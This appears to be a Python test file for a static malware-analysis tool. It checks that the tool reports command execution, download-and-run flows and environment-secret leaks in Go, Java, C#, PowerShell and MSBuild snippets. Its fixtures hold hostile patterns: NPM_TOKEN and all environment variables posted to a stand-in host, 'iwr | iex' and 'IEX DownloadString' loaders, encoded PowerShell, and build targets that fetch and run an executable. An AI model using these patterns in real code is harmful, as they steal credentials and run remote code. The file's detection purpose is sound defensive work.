"""Go, Java, C#, PowerShell, MSBuild, class files and assemblies: what runs, with what, when, and where it goes."""

import base64

import pytest
from evals.classfile import assemble
from hypothesis import given, settings
from hypothesis import strategies as st
from reading import seen, short

from biopsy.model.behaviour import When
from biopsy.static.clr import assembly
from biopsy.static.jvm import classfile
from thorough import often

RUN = "process.exec echo a marker"
B64 = base64.b64encode(b"echo a marker").decode()
LONG = base64.b64encode(b"echo a marker and nothing else").decode()
WIDE = base64.b64encode("iex (iwr http://a.b.c)".encode("utf-16-le")).decode()

SAID = [
    ("x.go", 'package a\nimport "os/exec"\nfunc init() { exec.Command("echo", "a", "marker").Run() }', RUN),
    ("x.go", 'package a\nimport e "os/exec"\nvar x = f()\nfunc f() error { return e.Command("echo", "a", "marker").Run() }', RUN),
    ("x.go", f'package a\nfunc init() {{ d, _ := base64.StdEncoding.DecodeString("{B64}"); exec.Command("sh", "-c", string(d)).Run() }}',
     "process.exec sh -c 'echo a marker'"),
    ("x.go", 'package a\nfunc F() { r, _ := http.Get("http://a.b.c"); b, _ := io.ReadAll(r.Body); os.WriteFile("/tmp/p", b, 0755); exec.Command("/tmp/p").Start() }',
     "code.flow network > execution"),
    ("x.go", 'package a\ntype T struct { k string }\nfunc (t *T) S() { http.Post("http://a.b.c", "x", strings.NewReader(t.k)) }\nfunc F() { (&T{k: os.Getenv("NPM_TOKEN")}).S() }',
     "code.flow env:NPM_TOKEN > network"),
    ("x.go", 'package a\nfunc F() { for _, e := range os.Environ() { http.Get("http://a.b.c/" + e) } }', "code.flow env:* > network"),
    ("X.java", 'class X { static { Runtime.getRuntime().exec("echo a marker"); } }', RUN),
    ("X.java", 'class X { void f() { new ProcessBuilder("echo", "a", "marker").start(); } }', RUN),
    ("X.java", f'class X {{ void f() {{ Runtime.getRuntime().exec(new String(Base64.getDecoder().decode("{B64}"))); }} }}', RUN),
    ("X.java", 'class X { void f() { Class.forName("java.lang.Runtime").getMethod("exec").invoke(null, "echo a marker"); } }', RUN),
    ("X.java", 'class X { String t = System.getenv("NPM_TOKEN"); void f() { new URL("http://a.b.c/" + t).openStream(); } }',
     "code.flow env:NPM_TOKEN > network"),
    ("X.java", 'class X { void f() { new URLClassLoader(new URL[]{new URL("http://a.b.c/x.jar")}); } }', "code.flow network > execution"),
    ("X.cs", 'class X { void F() { Process.Start("echo", "a marker"); } }', RUN),
    ("X.cs", 'class X { void F() { var p = new Process(); p.StartInfo.FileName = "echo"; p.Start(); } }', "process.exec echo"),
    ("X.cs", ('class X { string t; X(string t) { this.t = t; } void S() { new WebClient().UploadString("http://a.b.c", t); }\n'
     'static void F() { new X(Environment.GetEnvironmentVariable("NPM_TOKEN")).S(); } }'), "code.flow env:NPM_TOKEN > network"),
    ("X.cs", 'class X { async void F() { Assembly.Load(Convert.FromBase64String(await new HttpClient().GetStringAsync("http://a.b.c"))); } }',
     "code.flow network > execution"),
    ("X.cs", 'class X { void F() { var s = ""; foreach (var b in new byte[] { 104, 99 }) s += (char)(b ^ 1); Process.Start(s); } }',
     "process.exec ib"),
    ("x.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://a.b.c')", "code.flow network > execution"),
    ("x.ps1", "iwr http://a.b.c | iex", "code.flow network > execution"),
    ("x.ps1", "$e = gci Env: | % { \"$($_.Name)=$($_.Value)\" }; irm http://a.b.c -Method Post -Body ($e -join ' ')", "code.flow env:* > network"),
    ("x.ps1", f"powershell -enc {WIDE}", "net.http GET http://a.b.c"),
    ("x.ps1", "& ('cm' + 'd') a marker", "process.exec cmd a marker"),
    ("x.ps1", f"$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{LONG}')); iex $c", "code.flow decoded > execution"),
    ("x.targets", '<Project><Target Name="A"><Exec Command="echo a marker"/></Target></Project>', RUN),
    ("x.targets", '<Project><Target Name="A"><DownloadFile SourceUrl="http://a.b.c/p.exe" DestinationFolder="o"/><Exec Command="o/p.exe"/></Target></Project>',
     "code.flow network > execution"),
    ("x.targets", '<Project><UsingTask TaskName="A" TaskFactory="RoslynCodeTaskFactory"><Task><Code Type="Fragment">Process.Start("echo", "a marker");</Code></Task></UsingTask></Project>',
     RUN),
    ("x.targets", '<Project><Target Name="A"><Exec Command="curl -d $(NPM_TOKEN) http://a.b.c"/></Target></Project>', "code.flow env:NPM_TOKEN > network"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "code", "expected"), SAID)
def test_what_code_does_is_told_in_these_languages_too(path: str, code: str, expected: str) -> None:
    assert expected in short(seen(code, path))


@pytest.mark.parametrize(
    ("path", "code", "place"),
    [
        ("x.go", 'package a\nfunc init() { exec.Command("id").Run() }', "x.go:2 (import)"),
        ("x.go", 'package a\nfunc Init() { exec.Command("id").Run() }', "x.go:2 (call)"),
        ("X.java", 'class X { static { Runtime.getRuntime().exec("id"); } }', "X.java:1 (import)"),
        ("X.java", 'class X { void f() { Runtime.getRuntime().exec("id"); } }', "X.java:1 (call)"),
        (
            "X.cs",
            'class X { [ModuleInitializer] static void F() { Process.Start("id"); } }',
            "X.cs:1 (import)",
        ),
        ("X.cs", 'class X { static X() { Process.Start("id"); } }', "X.cs:1 (import)"),
        ("X.cs", 'class X { static void Main() { Process.Start("id"); } }', "X.cs:1 (call)"),
    ],
)
def test_code_of_these_languages_happens_when_it_is_run(path: str, code: str, place: str) -> None:
    assert f"process.exec id @ {place}" in seen(code, path)


def test_a_method_that_the_compiler_calls_happens_at_installation() -> None:
    code = 'class X extends AbstractProcessor { void init(E e) { Runtime.getRuntime().exec("id"); } }'
    assert "process.exec id @ X.java:1 (install)" in seen(code, "X.java", When.INSTALL)


CLASS = """
class a/b/Telemetry
static void <clinit> ()V
  invokestatic java/lang/Runtime getRuntime ()Ljava/lang/Runtime;
  ldc "echo a marker"
  invokevirtual java/lang/Runtime exec (Ljava/lang/String;)Ljava/lang/Process;
  pop
  return
"""


def test_bytecode_is_followed_from_the_moment_at_which_a_class_is_used() -> None:
    assert f"{RUN} @ a/b/Telemetry.class (import)" in seen(assemble(CLASS), "a/b/Telemetry.class")


@settings(max_examples=40, deadline=None)
@given(at=st.integers(0, 400), put=st.binary(max_size=6), cut=st.integers(0, 400))
def test_a_damaged_class_is_read_as_far_as_it_goes(at: int, put: bytes, cut: int) -> None:
    data = bytearray(assemble(CLASS))
    data[at : at + len(put)] = put
    seen(bytes(data[: len(data) - cut % len(data)]), "X.class")
    classfile.parse(classfile.MAGIC + b"\0\0\0\x34" + put)


@settings(max_examples=often(6, 20), deadline=None)
@given(data=st.binary(max_size=400))
def test_what_only_looks_like_an_assembly_is_told_as_damaged(data: bytes) -> None:
    assert not isinstance(assembly.parse(b"MZ" + data + b"BSJB"), assembly.Assembly)
    seen(b"MZ" + data + b"BSJB" + data, "x.dll")


def test_signatures_of_assemblies_are_counted() -> None:
    assert assembly.signature(bytes((0x20, 2, 1, 14, 14))) == (2, True, False)
    assert assembly.signature(bytes((0x10, 1, 1, 14, 14))) == (1, False, True)
    assert assembly.number(b"\x81\x02", 0) == (0x102, 2)
